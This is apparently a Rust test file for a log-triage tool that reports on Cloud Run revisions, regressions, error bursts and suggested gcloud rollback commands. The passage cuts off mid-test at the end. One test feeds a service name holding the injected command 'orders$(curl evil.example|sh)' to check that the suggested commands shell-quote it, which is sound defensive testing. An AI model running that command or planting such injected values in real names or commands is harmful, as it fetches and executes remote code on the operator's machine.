//! What the report concludes about services and revisions: thresholds met per service
//! and whatever the time span, a regression that a later revision resolved, revisions
//! whose requests fail, causes linked only where the logs bear the link out, and
//! suggested commands that quote what came from the logs.
//! Inputs are Cloud Run request logs written the way Cloud Logging writes them.

use crate::util::*;
use serde_json::Value;

/// One Cloud Run request log, `secs` seconds after 2025-03-01T00:00:00Z.
pub(crate) fn request(i: usize, secs: i64, service: &str, revision: &str, status: u16) -> String {
    let t = chrono_free_time(secs);
    format!(
        concat!(
            r#"{{"httpRequest":{{"latency":"0.051234s","protocol":"HTTP/1.1","remoteIp":"35.243.23.142","#,
            r#""requestMethod":"GET","requestSize":"512","requestUrl":"https://{svc}-4fkq2ycyxa-ew.a.run.app/api/orders","#,
            r#""responseSize":"172","serverIp":"34.54.41.44","status":{status},"userAgent":"python-httpx/0.28.1"}},"#,
            r#""insertId":"65e1a{i:09x}","labels":{{"instanceId":"0069c7a98824795ed4cca76950d82f38b005d1f6"}},"#,
            r#""logName":"projects/shop-prod/logs/run.googleapis.com%2Frequests","receiveTimestamp":"{t}","#,
            r#""resource":{{"labels":{{"configuration_name":"{svc}","location":"europe-west1","project_id":"shop-prod","#,
            r#""revision_name":"{rev}","service_name":"{svc}"}},"type":"cloud_run_revision"}},"#,
            r#""severity":"{sev}","spanId":"f3f576a33323a516","timestamp":"{t}","#,
            r#""trace":"projects/shop-prod/traces/{i:032x}"}}"#
        ),
        svc = json_str(service),
        rev = json_str(revision),
        status = status,
        i = i,
        t = t,
        sev = if status >= 500 { "ERROR" } else { "INFO" },
    )
}

/// A string's JSON escaping, without quotes (service names here may hold `"` or `$`).
fn json_str(s: &str) -> String {
    let q = serde_json::to_string(s).unwrap();
    q[1..q.len() - 1].to_string()
}

/// RFC 3339 for 2025-03-01T00:00:00Z plus `secs` (within the year).
pub(crate) fn chrono_free_time(secs: i64) -> String {
    let day = secs.div_euclid(86_400);
    let rest = secs.rem_euclid(86_400);
    // March has 31 days, April 30: enough for these inputs.
    let (month, dom) = if day < 31 {
        (3, day + 1)
    } else {
        (4, day - 30)
    };
    format!(
        "2025-{month:02}-{dom:02}T{:02}:{:02}:{:02}.000100Z",
        rest / 3600,
        (rest % 3600) / 60,
        rest % 60
    )
}

fn report_of(lines: &[String]) -> Value {
    let mut input = lines.join("\n");
    input.push('\n');
    lt(["report", "--format", "json", "-"]).stdin(input).json()
}

fn markdown_of(lines: &[String]) -> String {
    let mut input = lines.join("\n");
    input.push('\n');
    lt(["report", "-"]).stdin(input).code(0).stdout
}

fn below(r: &Value, id: &str) -> u64 {
    r["below_threshold"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["rule"] == id)
        .map_or(0, |b| b["count"].as_u64().unwrap())
}

fn verdict(r: &Value, revision: &str) -> String {
    r["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["revision"] == revision)
        .map(|v| v["verdict"].as_str().unwrap().to_string())
        .unwrap_or_default()
}

#[test]
fn a_burst_on_one_service_does_not_make_a_lone_5xx_elsewhere_a_finding() {
    let mut lines = Vec::new();
    for i in 0..12 {
        lines.push(request(
            i,
            600 + i as i64 * 10,
            "orders",
            "orders-00007-xuf",
            503,
        ));
    }
    for i in 12..40 {
        lines.push(request(
            i,
            i as i64 * 30,
            "billing",
            "billing-00003-kip",
            200,
        ));
    }
    lines.push(request(40, 900, "billing", "billing-00003-kip", 500));
    let r = report_of(&lines);
    let f = finding(&r, "HTTP_5XX_BURST").expect("the orders burst is a finding");
    assert_eq!(f["count"], 12, "{f}");
    let services: Vec<&Value> = f["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| &v["service"])
        .collect();
    assert_eq!(services, ["orders"], "{f}");
    assert_eq!(below(&r, "HTTP_5XX_BURST"), 1, "billing's lone 500");
    assert_eq!(verdict(&r, "orders-00007-xuf"), "broken");
    assert_ne!(verdict(&r, "billing-00003-kip"), "broken");
}

#[test]
fn a_busy_service_background_of_5xx_is_not_a_burst() {
    // 100 requests a minute for 8 minutes with one 503 in each (1%): before
    // `min_share`, "some in each of 5 consecutive minutes" made it a HIGH finding.
    let mut lines = Vec::new();
    let mut i = 0;
    for minute in 0..8 {
        for k in 0..100 {
            let status = if k == 50 { 503 } else { 200 };
            lines.push(request(
                i,
                minute * 60 + k as i64 * 6 / 10,
                "orders",
                "orders-00007-xuf",
                status,
            ));
            i += 1;
        }
    }
    let r = report_of(&lines);
    assert!(finding(&r, "HTTP_5XX_BURST").is_none(), "{}", r["findings"]);
    assert_eq!(below(&r, "HTTP_5XX_BURST"), 8);
    // One endpoint down for two minutes on the same busy service: a burst by count,
    // whatever its share of all requests (the share qualifies only the slow run).
    let mut burst = lines.clone();
    for k in 0..40 {
        burst.push(request(
            10_000 + k,
            300 + k as i64 * 3,
            "orders",
            "orders-00007-xuf",
            500,
        ));
    }
    let r = report_of(&burst);
    let f = finding(&r, "HTTP_5XX_BURST").expect("40 failures in 2 minutes");
    assert!(f["count"].as_u64().unwrap() >= 40, "{f}");
    // The same service with one in ten failing: a burst.
    for l in lines.iter_mut().skip(3).step_by(10) {
        *l = l.replace(r#""status":200"#, r#""status":502"#);
    }
    let r = report_of(&lines);
    let f = finding(&r, "HTTP_5XX_BURST").expect("10% of requests failing");
    assert!(f["count"].as_u64().unwrap() >= 80, "{f}");
}

#[test]
fn thresholds_do_not_depend_on_the_time_span() {
    // Ten 5xx, one every 30 minutes: no burst.
    let spread: Vec<String> = (0..10)
        .map(|i| request(i, i as i64 * 1800, "orders", "orders-00007-xuf", 500))
        .chain((10..30).map(|i| request(i, i as i64 * 900, "orders", "orders-00007-xuf", 200)))
        .collect();
    // Ten 5xx within two minutes: a burst.
    let burst: Vec<String> = (0..10)
        .map(|i| request(i, 3600 + i as i64 * 12, "orders", "orders-00007-xuf", 500))
        .chain((10..30).map(|i| request(i, i as i64 * 900, "orders", "orders-00007-xuf", 200)))
        .collect();
    // The same entries alone, then with healthy traffic three weeks later, which makes
    // the report's timeline bucket a day instead of a minute.
    let later: Vec<String> = (100..120)
        .map(|i| request(i, 21 * 86_400 + i as i64, "orders", "orders-00007-xuf", 200))
        .collect();
    for (name, lines, fires) in [("spread", &spread, false), ("burst", &burst, true)] {
        for span in ["short", "three weeks"] {
            let mut all = lines.clone();
            if span != "short" {
                all.extend(later.iter().cloned());
            }
            let r = report_of(&all);
            assert_eq!(
                finding(&r, "HTTP_5XX_BURST").is_some(),
                fires,
                "{name} over a {span} span (bucket {}): {}",
                r["bucket_secs"],
                r["status"]
            );
        }
    }
}

#[test]
fn a_later_working_revision_resolves_the_regression_without_a_rollback() {
    let mut lines = Vec::new();
    for i in 0..60 {
        let (rev, status) = match i / 20 {
            0 => ("orders-00010-aaa", 200),
            1 => ("orders-00011-bbb", if i % 2 == 0 { 500 } else { 200 }),
            _ => ("orders-00012-ccc", 200),
        };
        lines.push(request(i, i as i64 * 20, "orders", rev, status));
    }
    let r = report_of(&lines);
    let reg = &r["regressions"][0];
    assert_eq!(reg["last_good"], "orders-00010-aaa", "{reg}");
    assert_eq!(reg["first_bad"], "orders-00011-bbb", "{reg}");
    assert_eq!(reg["resolved_by"]["revision"], "orders-00012-ccc", "{reg}");
    assert_eq!(reg["resolved_by"]["failures"], 0, "{reg}");
    for a in r["actions"].as_array().unwrap() {
        let cmd = a["command"].as_str().unwrap_or("");
        assert!(
            !cmd.contains("update-traffic"),
            "a rollback after the fix: {a}"
        );
    }
    assert!(r["status"]["headline"]
        .as_str()
        .unwrap()
        .contains("resolved by `orders-00012-ccc`"));
    let md = markdown_of(&lines);
    assert!(md.contains("**Resolved by `orders-00012-ccc`**"), "{md}");
    assert!(!md.contains("update-traffic"), "{md}");

    // Without the fixed revision, the rollback is suggested.
    let r = report_of(&lines[..40]);
    assert!(r["regressions"][0]["resolved_by"].is_null());
    assert!(r["actions"].as_array().unwrap().iter().any(|a| a["command"]
        .as_str()
        .is_some_and(|c| c.contains("--to-revisions=orders-00010-aaa=100"))));
}

#[test]
fn a_revision_whose_requests_all_fail_is_not_working_and_the_status_says_so() {
    // A scheduled job calls every 5 minutes and every call fails: too slow for a burst.
    let mut lines: Vec<String> = (0..12)
        .map(|i| request(i, i as i64 * 300, "sync", "sync-00056-tis", 500))
        .collect();
    // The same failures seen by Cloud Scheduler: a status and no URL.
    lines.extend((0..12).map(|i| {
        format!(
            concat!(
                r#"{{"httpRequest":{{"status":500}},"insertId":"1f254dkf7q{i:04}","#,
                r#""jsonPayload":{{"@type":"type.googleapis.com/google.cloud.scheduler.logging.AttemptFinished","#,
                r#""jobName":"projects/shop-prod/locations/europe-west1/jobs/sync","status":"INTERNAL","targetType":"HTTP","#,
                r#""url":"https://sync-4fkq2ycyxa-ew.a.run.app/run"}},"#,
                r#""logName":"projects/shop-prod/logs/cloudscheduler.googleapis.com%2Fexecutions","#,
                r#""receiveTimestamp":"{t}","resource":{{"labels":{{"job_id":"sync","location":"europe-west1","project_id":"shop-prod"}},"#,
                r#""type":"cloud_scheduler_job"}},"severity":"ERROR","timestamp":"{t}"}}"#
            ),
            i = i,
            t = chrono_free_time(i as i64 * 300 + 1),
        )
    }));
    let r = report_of(&lines);
    assert!(finding(&r, "HTTP_5XX_BURST").is_none(), "{}", r["status"]);
    // 12 of 12 requests failed with 5xx: broken, rule or not.
    assert_eq!(verdict(&r, "sync-00056-tis"), "broken");
    let headline = r["status"]["headline"].as_str().unwrap();
    assert!(
        headline.contains("24 errors"),
        "errors without a revision count: {headline}"
    );
    assert!(
        headline.starts_with(
            "Most requests fail: 12 of 12 requests to `sync` (revision `sync-00056-tis`) \
             failed with 5xx, below every rule's threshold"
        ),
        "{headline}"
    );
    // Not "ok": `--fail-on high` must catch it.
    assert_eq!(r["status"]["level"], "high");
    // Six failed calls still read OK, with the caveat.
    let few = report_of(&lines[..6]);
    assert_eq!(few["status"]["level"], "ok");
    let caveat = few["status"]["headline"].as_str().unwrap();
    assert!(
        caveat
            .contains("but 6 of 6 requests to `sync` (revision `sync-00056-tis`) failed with 5xx"),
        "{caveat}"
    );
    // Scheduler's records of the same calls are not requests of their own.
    let impact = r["impact"].as_array().unwrap();
    assert_eq!(impact.len(), 1, "{impact:?}");
    assert_eq!(impact[0]["service"], "sync");
    assert_eq!(impact[0]["requests"], 12);
}

#[test]
fn suggested_commands_quote_what_came_from_the_logs() {
    let svc = "orders$(curl evil.example|sh)";
    let mut lines = Vec::new();
    for i in 0..40 {
        let (rev, status) = if i < 20 {
            ("orders-00010-aaa", 200)
        } else {
            ("orders-00011-bbb", 503)
        };
        lines.push(request(i, i as i64 * 10, svc, rev, status));
    }
    let r = report_of(&lines);
    let cmds = commands(&r);
    let rollback = cmds
        .iter()
        .find(|c| c.contains("update-traffic"))
        .unwrap_or_else(|| panic!("no rollback in {cmds:?}"));
    assert!(
        rollback.starts_with("gcloud run services update-traffic 'orders$(curl evil.example|sh)' "),
        "{rollback}"
    );
    for c in &cmds {
        assert!(!c.contains(" orders$("), "unquoted: {c}");
    }
}

/// Cloud Run's own line about a container, `secs` seconds after 2025-03-01T00:00:00Z.
fn system_line(i: usize, secs: i64, service: &str, revision: &str, text: &str) -> String {
    run_line(
        i,
        secs,
        service,
        revision,
        "varlog%2Fsystem",
        "WARNING",
        text,
    )
}

/// A text line in Cloud Run log `log` (URL-encoded: `stderr`, `varlog%2Fsystem`) of
/// `service`, `secs` seconds after 2025-03-01T00:00:00Z.
pub(crate) fn run_line(
    i: usize,
    secs: i64,
    service: &str,
    revision: &str,
    log: &str,
    severity: &str,
    text: &str,
) -> String {
    let t = chrono_free_time(secs);
    // insertIds apart per log, as Cloud Logging's are.
    let prefix = if log == "stderr" { "65e1d" } else { "65e1b" };
    format!(
        concat!(
            r#"{{"insertId":"{prefix}{i:09x}","labels":{{"instanceId":"0069c7a98824795ed4cca76950d82f38b005d1f6"}},"#,
            r#""logName":"projects/shop-prod/logs/run.googleapis.com%2F{log}","receiveTimestamp":"{t}","#,
            r#""resource":{{"labels":{{"configuration_name":"{svc}","location":"europe-west1","project_id":"shop-prod","#,
            r#""revision_name":"{rev}","service_name":"{svc}"}},"type":"cloud_run_revision"}},"#,
            r#""severity":"{sev}","textPayload":"{text}","timestamp":"{t}"}}"#
        ),
        prefix = prefix,
        i = i,
        log = log,
        t = t,
        svc = service,
        rev = revision,
        sev = severity,
        text = text,
    )
}

#[test]
fn a_cause_on_another_service_explains_nothing() {
    // 5xx on orders; containers of billing crash at the same time.
    let mut lines: Vec<String> = (0..12)
        .map(|i| request(i, 600 + i as i64 * 10, "orders", "orders-00007-xuf", 503))
        .collect();
    let crash = |id: usize, k: usize, svc: &str, rev: &str| {
        system_line(
            id,
            590 + k as i64 * 5,
            svc,
            rev,
            "Container called exit(1).",
        )
    };
    lines.extend((0..6).map(|k| crash(100 + k, k, "billing", "billing-00003-kip")));
    let r = report_of(&lines);
    assert!(finding(&r, "HTTP_5XX_BURST").is_some());
    assert!(finding(&r, "CLOUD_RUN_CONTAINER_CRASH").is_some());
    for w in r["five_whys"].as_array().unwrap() {
        let rules = w["rules"].as_array().unwrap();
        assert!(
            !(rules.contains(&"HTTP_5XX_BURST".into())
                && rules.contains(&"CLOUD_RUN_CONTAINER_CRASH".into())),
            "linked across services: {w}"
        );
    }
    // Nor is the other service's finding "related" in the headline.
    let headline = r["status"]["headline"].as_str().unwrap();
    assert!(
        headline.contains("; 1 finding on other services"),
        "{headline}"
    );
    assert!(!headline.contains("related"), "{headline}");
    // On the same service the link is made, and its evidence says what it rests on.
    lines.extend((0..6).map(|k| crash(200 + k, k, "orders", "orders-00007-xuf")));
    let r = report_of(&lines);
    let linked = r["five_whys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["rules"][1] == "CLOUD_RUN_CONTAINER_CRASH")
        .unwrap_or_else(|| panic!("no link: {}", r["five_whys"]));
    let link = linked["evidence"][0].as_str().unwrap();
    assert!(
        link.starts_with("link: `CLOUD_RUN_CONTAINER_CRASH` is a known cause of `HTTP_5XX_BURST` (rule pack); in these logs both are on `orders`"),
        "{link}"
    );
}

#[test]
fn health_checks_do_not_hide_failing_requests() {
    // Every real call fails, one every 2 minutes (under every burst threshold);
    // the load balancer's health checks pass. Counted as served, they hid it.
    let mut lines: Vec<String> = (0..12)
        .map(|i| request(i, i as i64 * 120, "reports", "reports-00042-bbb", 500))
        .collect();
    for i in 0..40 {
        let probe = request(100 + i, i as i64 * 36, "reports", "reports-00042-bbb", 200);
        lines.push(probe.replace("python-httpx/0.28.1", "GoogleHC/1.0"));
    }
    let r = report_of(&lines);
    let headline = r["status"]["headline"].as_str().unwrap();
    assert!(
        headline.contains("12 of 12 requests (health checks aside) to `reports`"),
        "{headline}"
    );
}

#[test]
fn a_revision_that_served_no_request_is_not_shown_working() {
    // 00012 serves; 00013 was deployed with --no-traffic and only logged start-up lines.
    let mut lines: Vec<String> = (0..30)
        .map(|i| request(i, i as i64 * 20, "orders", "orders-00012-kem", 200))
        .collect();
    lines.extend((0..12).map(|i| {
        system_line(
            100 + i,
            300 + i as i64,
            "orders",
            "orders-00013-pov",
            "Starting new instance. Reason: DEPLOYMENT_ROLLOUT - Instance started due to traffic shifting between revisions due to deployment, traffic split adjustment, or deployment health check.",
        )
    }));
    let r = report_of(&lines);
    assert_eq!(verdict(&r, "orders-00012-kem"), "working");
    assert_eq!(
        verdict(&r, "orders-00013-pov"),
        "unknown",
        "{}",
        r["revisions"]
    );
    // A service with no request logs at all is judged on its logs.
    let quiet: Vec<String> = (0..12)
        .map(|i| system_line(i, i as i64, "batch", "batch-00002-wuz", "Container started"))
        .collect();
    assert_eq!(verdict(&report_of(&quiet), "batch-00002-wuz"), "working");
}

#[test]
fn a_rollback_already_made_is_reported_as_the_resolution() {
    let mut lines = Vec::new();
    for i in 0..60 {
        lines.push(request(i, i as i64 * 10, "orders", "orders-00010-aaa", 200));
    }
    for i in 60..120 {
        lines.push(request(i, i as i64 * 10, "orders", "orders-00011-bbb", 503));
    }
    // Traffic back on 00010 ten minutes after 00011's last request.
    for i in 120..180 {
        lines.push(request(
            i,
            1800 + i as i64 * 10,
            "orders",
            "orders-00010-aaa",
            200,
        ));
    }
    let r = report_of(&lines);
    let reg = &r["regressions"][0];
    assert_eq!(reg["rolled_back"], true, "{reg}");
    assert!(
        !commands(&r).iter().any(|c| c.contains("update-traffic")),
        "{:?}",
        commands(&r)
    );
    let md = markdown_of(&lines);
    assert!(
        md.contains(
            "**Resolved: traffic went back to `orders-00010-aaa`**, which served on until \
             2025-03-01T00:59:50.000100Z, after `orders-00011-bbb`'s last entry at \
             2025-03-01T00:19:50.000100Z, with 0 of its entries failing"
        ),
        "{md}"
    );
}

/// The same request as the app writes it itself: structured JSON with `httpRequest` on
/// stdout, which Cloud Logging lifts into the entry.
fn app_request(i: usize, secs: i64, service: &str, revision: &str, status: u16) -> String {
    request(i, secs, service, revision, status)
        .replace(
            "run.googleapis.com%2Frequests",
            "run.googleapis.com%2Fstdout",
        )
        .replace(
            r#""insertId":"65e1a"#,
            r#""jsonPayload":{"message":"request finished"},"insertId":"65e1c"#,
        )
}

#[test]
fn requests_the_app_logs_itself_are_not_counted_twice() {
    // orders: Cloud Run's request log and the app's own line for each of 30 403s.
    let mut lines = Vec::new();
    for i in 0..30 {
        lines.push(request(
            i,
            600 + i as i64 * 5,
            "orders",
            "orders-00007-xuf",
            403,
        ));
        lines.push(app_request(
            i,
            600 + i as i64 * 5,
            "orders",
            "orders-00007-xuf",
            403,
        ));
    }
    // billing exports only its stdout: the app's request lines are all there is.
    for i in 30..60 {
        lines.push(app_request(
            i,
            600 + i as i64 * 5,
            "billing",
            "billing-00003-kip",
            403,
        ));
    }
    let r = report_of(&lines);
    let f = finding(&r, "HTTP_403_BURST").expect("both bursts fire");
    let per: Vec<(String, u64)> = f["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["service"].as_str().unwrap().to_string(),
                v["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        per,
        [("billing".to_string(), 30), ("orders".to_string(), 30)],
        "{f}"
    );
    let impact = r["impact"].as_array().unwrap();
    for row in impact {
        assert_eq!(row["requests"], 30, "{row}");
    }
    // What was left out is counted, and the Markdown says so.
    assert_eq!(r["input"]["app_requests_left_out"], 30);
    let md = markdown_of(&lines);
    assert!(
        md.contains("_30 request logs the app wrote itself are not counted as requests"),
        "{md}"
    );
}

#[test]
fn a_service_name_in_two_regions_is_judged_per_region() {
    // europe-west1: 00010 works, then 00011 fails to the end. us-east1: 00041, the
    // highest number, serves fine all along.
    let mut lines = Vec::new();
    for i in 0..60 {
        let (rev, status) = if i < 30 {
            ("orders-00010-aaa", 200)
        } else {
            ("orders-00011-bbb", 503)
        };
        lines.push(request(i, i as i64 * 20, "orders", rev, status));
        lines.push(
            request(
                100 + i,
                i as i64 * 20 + 5,
                "orders",
                "orders-00041-ccc",
                200,
            )
            .replace("europe-west1", "us-east1"),
        );
    }
    let r = report_of(&lines);
    let regs = r["regressions"].as_array().unwrap();
    assert_eq!(regs.len(), 1, "{regs:?}");
    let reg = &regs[0];
    assert_eq!(reg["first_bad"], "orders-00011-bbb");
    assert_eq!(reg["last_good"], "orders-00010-aaa");
    assert!(
        reg["resolved_by"].is_null(),
        "another region's revision resolves nothing: {reg}"
    );
    assert_eq!(reg["region"], "europe-west1");
    assert_eq!(reg["split"], true);
    let cmds = commands(&r);
    let rollback: Vec<_> = cmds
        .iter()
        .filter(|c| c.contains("update-traffic"))
        .collect();
    assert_eq!(
        rollback,
        [&"gcloud run services update-traffic orders --to-revisions=orders-00010-aaa=100 --region=europe-west1"],
        "{cmds:?}"
    );
    assert!(markdown_of(&lines).contains("**orders** in `europe-west1`, project `shop-prod`"));
    // The same name in two projects: every gcloud command names the failing one.
    let projects: Vec<String> = lines
        .iter()
        .map(|l| {
            if l.contains("us-east1") {
                l.replace("us-east1", "europe-west1")
                    .replace("shop-prod", "shop-staging")
            } else {
                l.clone()
            }
        })
        .collect();
    let r = report_of(&projects);
    assert_eq!(
        r["regressions"][0]["project"], "shop-prod",
        "{}",
        r["regressions"]
    );
    let cmds = commands(&r);
    assert!(
        cmds.iter().any(|c| c.contains("update-traffic")),
        "{cmds:?}"
    );
    for c in cmds.iter().filter(|c| c.starts_with("gcloud ")) {
        assert!(c.ends_with("--project=shop-prod"), "{c}");
    }
}

#[test]
fn a_job_execution_that_fails_gets_no_traffic_rollback() {
    // A Cloud Run job: the second execution crashes on every attempt.
    let r = lt(["report", "--format", "json"])
        .arg(fixture("job-executions.ndjson"))
        .json();
    let reg = &r["regressions"][0];
    assert_eq!(reg["first_bad"], "nightly-export-k2v9p", "{reg}");
    assert_eq!(reg["rollback"], false);
    for c in commands(&r) {
        assert!(
            !c.contains("update-traffic") && !c.contains("revisions describe"),
            "a job has no revisions to send traffic to: {c}"
        );
    }
    let md = lt(["report"])
        .arg(fixture("job-executions.ndjson"))
        .go()
        .stdout;
    assert!(
        md.contains("Version `nightly-export-k2v9p` replaced"),
        "{md}"
    );
}

#[test]
fn the_headline_counts_the_service_it_names() {
    let mut lines = Vec::new();
    for i in 0..30 {
        lines.push(request(
            i,
            600 + i as i64 * 5,
            "orders",
            "orders-00007-xuf",
            503,
        ));
    }
    for i in 30..42 {
        lines.push(request(
            i,
            600 + i as i64 * 5,
            "billing",
            "billing-00003-kip",
            503,
        ));
    }
    let r = report_of(&lines);
    assert_eq!(finding(&r, "HTTP_5XX_BURST").unwrap()["count"], 42);
    // Each revision's own span: billing's first 503 is its own, not orders'.
    let revs = finding(&r, "HTTP_5XX_BURST").unwrap()["revisions"].clone();
    let billing = revs
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["service"] == "billing")
        .unwrap();
    assert_eq!(
        billing["first_seen"], "2025-03-01T00:12:30.000100Z",
        "{billing}"
    );
    let table = lt(["report", "--format", "table", "-"])
        .stdin(lines.join("\n"))
        .code(0)
        .stdout;
    assert!(table.contains("2025-03-01T00:12:30.000100Z"), "{table}");
    // The first why asks about orders: its answer counts orders' matches.
    let because = r["five_whys"][0]["because"].as_str().unwrap();
    assert!(
        because.contains("matched 30 times on orders (42 in all)"),
        "{because}"
    );
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("x30 `HTTP_5XX_BURST` on `orders` (42 in all, on 2 services)"),
        "{h}"
    );
}

#[test]
fn failures_from_the_first_entry_are_not_given_an_onset() {
    let lines: Vec<String> = (0..30)
        .map(|i| request(i, i as i64 * 5, "orders", "orders-00007-xuf", 503))
        .collect();
    let r = report_of(&lines);
    let f = finding(&r, "HTTP_5XX_BURST").unwrap();
    assert_eq!(f["timeline"]["under_way_at_start"], true);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("since at least 2025-03-01T00:00:00.000100Z (under way when the logs begin)"),
        "{h}"
    );
    // Good requests in the first seconds: it began after them, however soon.
    let mut soon: Vec<String> = (0..5)
        .map(|i| request(200 + i, i as i64 * 4, "orders", "orders-00007-xuf", 200))
        .collect();
    soon.extend(
        lines
            .iter()
            .enumerate()
            .map(|(i, _)| request(i, 30 + i as i64 * 5, "orders", "orders-00007-xuf", 503)),
    );
    let r = report_of(&soon);
    assert_eq!(
        finding(&r, "HTTP_5XX_BURST").unwrap()["timeline"]["under_way_at_start"],
        false
    );
    // Ten minutes of good requests first: the onset is known.
    let mut later: Vec<String> = (0..30)
        .map(|i| request(100 + i, i as i64 * 20, "orders", "orders-00007-xuf", 200))
        .collect();
    later.extend(
        lines
            .iter()
            .enumerate()
            .map(|(i, _)| request(i, 600 + i as i64 * 5, "orders", "orders-00007-xuf", 503)),
    );
    let r = report_of(&later);
    assert_eq!(
        finding(&r, "HTTP_5XX_BURST").unwrap()["timeline"]["under_way_at_start"],
        false
    );
    assert!(!r["status"]["headline"]
        .as_str()
        .unwrap()
        .contains("at least"));
}

#[test]
fn a_busy_auth_service_rejecting_expired_tokens_is_not_an_outage() {
    let rejection = |i: usize, secs: i64| {
        system_line(
            i,
            secs,
            "auth",
            "auth-00031-tok",
            "Token validation failed: Invalid token or user not found",
        )
        .replace(
            "run.googleapis.com%2Fvarlog%2Fsystem",
            "run.googleapis.com%2Fstderr",
        )
    };
    let with_requests = |n: usize| {
        let mut lines: Vec<String> = (0..n)
            .map(|i| {
                request(
                    1000 + i,
                    (i * 600 / n) as i64,
                    "auth",
                    "auth-00031-tok",
                    200,
                )
            })
            .collect();
        lines.extend((0..6).map(|i| rejection(i, 30 + i as i64 * 90)));
        lines
    };
    // 6 in 10 minutes among 3,000 requests (0.2%): expired tokens.
    let busy = report_of(&with_requests(3000));
    assert!(
        finding(&busy, "TOKEN_VALIDATION_USER_NOT_FOUND").is_none(),
        "{}",
        busy["status"]
    );
    assert_eq!(below(&busy, "TOKEN_VALIDATION_USER_NOT_FOUND"), 6);
    // The same 6 among 50 requests (12%): the service is failing its users.
    let quiet = report_of(&with_requests(50));
    assert!(
        finding(&quiet, "TOKEN_VALIDATION_USER_NOT_FOUND").is_some(),
        "{}",
        quiet["status"]
    );
}

#[test]
fn the_app_s_request_logs_count_where_cloud_run_s_own_are_missing() {
    // prod has Cloud Run's request log; staging excluded it, so its 503s are only in
    // the app's own lines. The same service name must not hide staging's outage.
    let mut lines: Vec<String> = (0..60)
        .map(|i| request(i, i as i64 * 10, "orders", "orders-00007-xuf", 200))
        .collect();
    for i in 60..90 {
        lines.push(
            app_request(i, 300 + i as i64, "orders", "orders-00003-stg", 503)
                .replace("shop-prod", "shop-staging")
                .replace(
                    "request finished",
                    "could not connect to postgres: connection refused",
                ),
        );
    }
    let r = report_of(&lines);
    let f = finding(&r, "HTTP_5XX_BURST").expect("staging's burst is found");
    assert_eq!(f["count"], 30, "{f}");
    // Each entry counts once on its revision, whichever rules it matched.
    assert!(
        finding(&r, "DB_CONNECTIVITY_FAILURE").is_some(),
        "{}",
        r["status"]
    );
    let row = r["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["revision"] == "orders-00003-stg")
        .unwrap();
    assert_eq!(row["entries"], 30, "{row}");
    assert_eq!(row["findings"], 30, "{row}");
}

/// CI deploys `orders` to europe-west1 and asia-east1 with `--revision-suffix=$SHORT_SHA`:
/// the same revision names in both. The new one fails every request in europe-west1,
/// while asia-east1, busier, serves it fine. Interleaved as Cloud Logging exports them.
fn same_names_in_two_regions() -> Vec<String> {
    let mut lines = Vec::new();
    for i in 0..60 {
        let rev = if i < 30 {
            "orders-a1b2c3d"
        } else {
            "orders-e4f5a6b"
        };
        let status = if i < 30 { 200 } else { 503 };
        lines.push(request(i, i as i64 * 20, "orders", rev, status));
        for k in 0..3 {
            let at = i as i64 * 20 + 5 + k as i64 * 5;
            lines.push(
                request(100 + i * 3 + k, at, "orders", rev, 200)
                    .replace("europe-west1", "asia-east1")
                    .replace("-ew.a.run.app", "-an.a.run.app"),
            );
        }
    }
    lines
}

/// The row of `revision` in `region` (`None`: the row without a region).
fn row<'r>(r: &'r Value, revision: &str, region: Option<&str>) -> &'r Value {
    r["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["revision"] == revision && v["region"].as_str() == region)
        .unwrap_or_else(|| panic!("no row {revision} {region:?}: {}", r["revisions"]))
}

#[test]
fn one_revision_name_in_two_regions_is_judged_per_region() {
    let lines = same_names_in_two_regions();
    let r = report_of(&lines);
    let regs = r["regressions"].as_array().unwrap();
    assert_eq!(regs.len(), 1, "{regs:?}");
    let reg = &regs[0];
    assert_eq!(
        (reg["last_good"].as_str(), reg["first_bad"].as_str()),
        (Some("orders-a1b2c3d"), Some("orders-e4f5a6b")),
        "{reg}"
    );
    assert_eq!(reg["region"], "europe-west1", "{reg}");
    assert_eq!(reg["rollback"], true, "{reg}");
    // The evidence filter fetches the failing region's entries, not the other's.
    for f in r["findings"].as_array().unwrap() {
        let filter = f["filter"].as_str().unwrap();
        assert!(
            filter.contains(r#") AND resource.labels.location="europe-west1""#),
            "{filter}"
        );
    }
    assert_eq!(
        reg["after"]["entries"], 30,
        "europe-west1's entries only: {reg}"
    );
    assert_eq!(
        row(&r, "orders-e4f5a6b", Some("europe-west1"))["verdict"],
        "broken"
    );
    assert_eq!(
        row(&r, "orders-e4f5a6b", Some("asia-east1"))["verdict"],
        "working"
    );
    for region in ["europe-west1", "asia-east1"] {
        assert_eq!(
            row(&r, "orders-a1b2c3d", Some(region))["verdict"],
            "working"
        );
    }
    let cmds = commands(&r);
    let rollback: Vec<_> = cmds
        .iter()
        .filter(|c| c.contains("update-traffic"))
        .collect();
    assert_eq!(
        rollback,
        [&"gcloud run services update-traffic orders --to-revisions=orders-a1b2c3d=100 --region=europe-west1"],
        "{cmds:?}"
    );
    assert!(!cmds.iter().any(|c| c.contains("asia-east1")), "{cmds:?}");
    // Wherever the report names a shared revision name, it names the region too.
    let md = markdown_of(&lines);
    let status = md.lines().find(|l| l.starts_with("**Status:**")).unwrap();
    assert!(
        status.contains("broken since revision `orders-e4f5a6b` in `europe-west1`"),
        "{status}"
    );
    for want in [
        "| `orders-e4f5a6b` (europe-west1) |",
        "| `orders-e4f5a6b` (asia-east1) |",
        "**orders** in `europe-west1`, project `shop-prod`",
    ] {
        assert!(md.contains(want), "{want}: {md}");
    }
    let input = lines.join("\n") + "\n";
    let table = lt(["report", "--format", "table", "-"])
        .stdin(input)
        .code(0)
        .stdout;
    for want in [
        "orders-e4f5a6b (europe-west1)",
        "orders-e4f5a6b (asia-east1)",
        "regression: orders in europe-west1 working until orders-a1b2c3d",
    ] {
        assert!(table.contains(want), "{want}: {table}");
    }
}

#[test]
fn an_error_on_a_shared_name_in_the_healthy_region_is_no_lead() {
    // An error no rule knows, logged by the failing region's new revision; then also
